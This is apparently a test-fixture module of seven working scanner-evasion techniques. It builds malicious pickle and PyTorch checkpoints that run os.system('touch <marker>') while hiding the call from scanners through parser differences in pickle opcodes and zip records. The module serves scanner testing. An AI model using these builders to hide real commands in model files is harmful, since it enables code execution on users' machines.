"""Hostile checkpoints written opcode by opcode and byte by byte: each runs ``touch <marker>`` (through
``os.system``) when a plain unpickler reads it, and hides that from a scanner that reads the file
differently than the unpickler or ``torch.load`` does."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable

import torch


def _unicode(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE


def evil(marker: str, proto: int = 0) -> bytes:
    """``os.system("touch <marker>")``: GLOBAL 'os system', MARK, UNICODE, TUPLE, REDUCE, STOP."""
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + b"cos\nsystem\n(V" + f"touch {marker}".encode() + b"\ntR."


def scan_error_swallowed(marker: str) -> bytes:
    """``I0x1``: an INT the unpickler reads with base 0 (pickletools rejects it), then POP, then the call."""
    return b"I0x1\n0" + evil(marker)


def memoize_apart_from_memo(marker: str) -> bytes:
    """MEMOIZE stores at ``len(memo)``: after one PUT at index 9, the strings are memoized at 1, 2, 3, 4
    (a scanner counting MEMOIZEs alone puts them at 0, 1, 2, 3). GET 1 and GET 3 then join
    ``os.system`` for the unpickler, ``collections.OrderedDict`` for such a scanner."""
    body = b"\x80\x04" + _unicode("x") + b"q\x090"  # PUT 9, POP
    for text in ("os", "collections", "system", "OrderedDict"):
        body += _unicode(text) + b"\x940"  # MEMOIZE, POP
    return body + b"h\x01h\x03\x93" + _unicode(f"touch {marker}") + b"\x85R."  # GET 1, GET 3, STACK_GLOBAL


def torch_zip(data_pkl: bytes, name: str = "archive/data.pkl", extra: dict[str, bytes] | None = None) -> bytes:
    """A zip archive as torch.save lays it out, with ``data_pkl`` as its pickle."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(name, data_pkl)
        for member, content in (extra or {}).items():
            zf.writestr(member, content)
        zf.writestr("archive/byteorder", b"little")
        zf.writestr("archive/version", b"3\n")
    return buf.getvalue()


def trailing_truncated_end_record(marker: str) -> bytes:
    """A torch zip whose pickle runs the call, then 8 bytes: a truncated second end record. Python's
    zipfile stops at it (not a zip), miniz skips it and reads the archive."""
    return torch_zip(evil(marker, 2)) + b"PK\x05\x06\x00\x00\x00\x00"


def legacy_pickle_then_zip(marker: str) -> bytes:
    """The call as a plain pickle, followed by a harmless torch zip: ``zipfile`` finds the zip (its end
    record ends the file), ``torch.load`` sees no zip magic at byte 0 and unpickles the start."""
    harmless = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, harmless)
    return evil(marker) + harmless.getvalue()


def upper_case_member(marker: str) -> bytes:
    """``archive/DATA.PKL`` runs the call; a decoy ``archive/x/data.pkl`` is the only name that ends in
    ``data.pkl`` case-sensitively. miniz looks up ``archive/data.pkl`` without regard to case."""
    harmless = pickle.dumps({"w": 1}, protocol=2)
    return torch_zip(evil(marker, 2), "archive/DATA.PKL", {"archive/x/data.pkl": harmless})


def case_duplicates(marker: str) -> bytes:
    """Both ``archive/data.pkl`` (harmless) and ``archive/DATA.PKL`` (the call): which one miniz's
    case-insensitive lookup finds depends on its search, so the archive is ambiguous."""
    return torch_zip(pickle.dumps({"w": 1}, protocol=2), "archive/data.pkl", {"archive/DATA.PKL": evil(marker, 2)})


def two_zip64_end_records(marker: str) -> bytes:
    """Two central directories, each with a zip64 end record: the one right before the zip64 locator (where
    Python's zipfile reads it) describes the harmless directory, the one the locator points to (where
    PyTorch's miniz reads it) describes the directory whose ``archive/data.pkl`` runs the call."""
    out = bytearray()
    entries: list[tuple[bytes, bytes, int]] = []  # (name, data, local header offset)
    for name, data in (
        (b"archive/data.pkl", evil(marker, 2)),
        (b"archive/version", b"3\n"),
        (b"archive/byteorder", b"little"),
        (b"archive/data.pkl", pickle.dumps({"w": 1}, protocol=2)),  # a second member of that name
    ):
        entries.append((name, data, len(out)))
        crc = zipfile.crc32(data)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0)
        out += name + data

    def directory(chosen: list[int]) -> bytes:
        cd = bytearray()
        for k in chosen:
            name, data, offset = entries[k]
            cd += struct.pack(
                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 0, 0, 0, zipfile.crc32(data), len(data), len(data),
                len(name), 0, 0, 0, 0, 0, offset,
            )  # fmt: skip
            cd += name
        return bytes(cd)

    def zip64_end(cd: bytes, cd_offset: int) -> bytes:
        return struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 3, 3, len(cd), cd_offset)

    bad_cd, bad_at = directory([0, 1, 2]), len(out)
    out += bad_cd
    bad_end_at = len(out)
    out += zip64_end(bad_cd, bad_at)
    good_cd, good_at = directory([3, 1, 2]), len(out)
    out += good_cd
    out += zip64_end(good_cd, good_at)
    out += struct.pack("<4sIQI", b"PK\x06\x07", 0, bad_end_at, 1)  # the locator points to the other one
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return bytes(out)


def legacy_third_pickle_stops_the_scan(marker: str) -> bytes:
    """The legacy format: magic number, protocol version, then a system-info pickle holding ``I0x1`` (the
    unpickler reads it, pickletools stops there), then the object pickle, which runs the call."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = b"(I0x1\nI2\nd."  # {1: 2}
    return magic + version + sys_info + evil(marker) + pickle.dumps([], protocol=2)


#: the seven bypasses: name -> (payload builder, how a naive reader runs it: "pickle" or "torch")
BYPASSES: dict[str, tuple[Callable[[str], bytes], str]] = {
    "scan-error-swallowed": (scan_error_swallowed, "pickle"),
    "memoize-apart-from-memo": (memoize_apart_from_memo, "pickle"),
    "trailing-truncated-end-record": (trailing_truncated_end_record, "torch"),
    "legacy-pickle-then-zip": (legacy_pickle_then_zip, "torch"),
    "upper-case-member": (upper_case_member, "torch"),
    "two-zip64-end-records": (two_zip64_end_records, "torch"),
    "legacy-third-pickle-stops-the-scan": (legacy_third_pickle_stops_the_scan, "torch"),
}
